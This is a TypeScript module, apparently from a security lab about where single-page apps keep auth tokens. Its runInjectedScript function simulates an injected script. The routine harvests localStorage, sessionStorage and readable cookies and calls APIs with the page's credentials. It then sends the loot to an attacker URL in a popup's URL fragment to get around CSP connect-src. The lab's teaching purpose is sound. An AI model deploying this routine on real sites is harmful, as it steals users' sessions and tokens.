import { exposedSpaApiCall } from "@/app/spa/exposed-api";

/** The key the SPA keeps its storage choice under, and its tokens (local and session choices). */
const STORAGE_CHOICE_KEY = "lab-spa-storage";
const SPA_TOKENS_KEY = "lab-spa-tokens";

/** One use of the live page's credentials: which way, and the status the lab answered. */
type InPageUse = {
  via: "the SPA's own API call" | "the backend-for-frontend" | "the site's session cookie";
  path: string;
  status: number;
};

/** What the fixed attacker routine found and did in the page. */
export type InjectedScriptReport = {
  storageChoice: string | null;
  localStorageKeys: string[];
  sessionStorageKeys: string[];
  /** The cookies `document.cookie` showed: HttpOnly ones are not among them. */
  cookieNames: string[];
  /** Where the SPA's tokens were readable (`localStorage`, `sessionStorage`). */
  tokensReadableIn: string[];
  uses: InPageUse[];
};

function everything(storage: Storage): Record<string, string> {
  const items: Record<string, string> = {};
  for (let index = 0; index < storage.length; index += 1) {
    const key = storage.key(index);
    if (key !== null) items[key] = storage.getItem(key) ?? "";
  }
  return items;
}

const base64Url = (text: string) =>
  btoa(String.fromCharCode(...new TextEncoder().encode(text)))
    .replace(/\+/g, "-")
    .replace(/\//g, "_")
    .replace(/=+$/, "");

/**
 * The code an injected script would run, as a fixed function in the bundle (no eval; the CSP is unchanged): read
 * every storage the page can reach, use the page's credentials through the page itself, and hand the loot to the
 * attacker. The CSP's connect-src stops a fetch to the attacker's origin, so the loot leaves the way real injected
 * scripts send it then: a window navigated to the attacker's page, the loot in its URL fragment.
 */
export async function runInjectedScript(attackerUrl: string): Promise<InjectedScriptReport> {
  // Opened first, while the click still counts as the person's: popup blockers allow it then.
  const attackerWindow = window.open("about:blank", "lab-attacker");
  const localItems = everything(window.localStorage);
  const sessionItems = everything(window.sessionStorage);
  const cookies = document.cookie;
  const storageChoice = localItems[STORAGE_CHOICE_KEY] ?? null;

  const uses: InPageUse[] = [];
  const spaCall = exposedSpaApiCall();
  if (spaCall)
    uses.push({ via: "the SPA's own API call", path: "/me", status: (await spaCall("/me").catch(() => ({ status: 0 }))).status });
  const sameOrigin = async (via: InPageUse["via"], path: string) => {
    const response = await fetch(path, { credentials: "same-origin", cache: "no-store" }).catch(() => undefined);
    uses.push({ via, path, status: response?.status ?? 0 });
  };
  await sameOrigin("the backend-for-frontend", "/api/bff/api/me");
  await sameOrigin("the site's session cookie", "/api/me");

  const loot = { ...(storageChoice ? { storageChoice } : {}), localStorage: localItems, sessionStorage: sessionItems, cookies };
  const lootUrl = `${attackerUrl}/loot#${base64Url(JSON.stringify(loot))}`;
  if (attackerWindow) attackerWindow.location.href = lootUrl;
  else window.open(lootUrl, "lab-attacker");

  return {
    storageChoice,
    localStorageKeys: Object.keys(localItems),
    sessionStorageKeys: Object.keys(sessionItems),
    cookieNames: cookies
      .split(";")
      .map((pair) => pair.split("=")[0]?.trim() ?? "")
      .filter((name) => name !== ""),
    tokensReadableIn: [
      ...(SPA_TOKENS_KEY in localItems ? ["localStorage"] : []),
      ...(SPA_TOKENS_KEY in sessionItems ? ["sessionStorage"] : []),
    ],
    uses,
  };
}
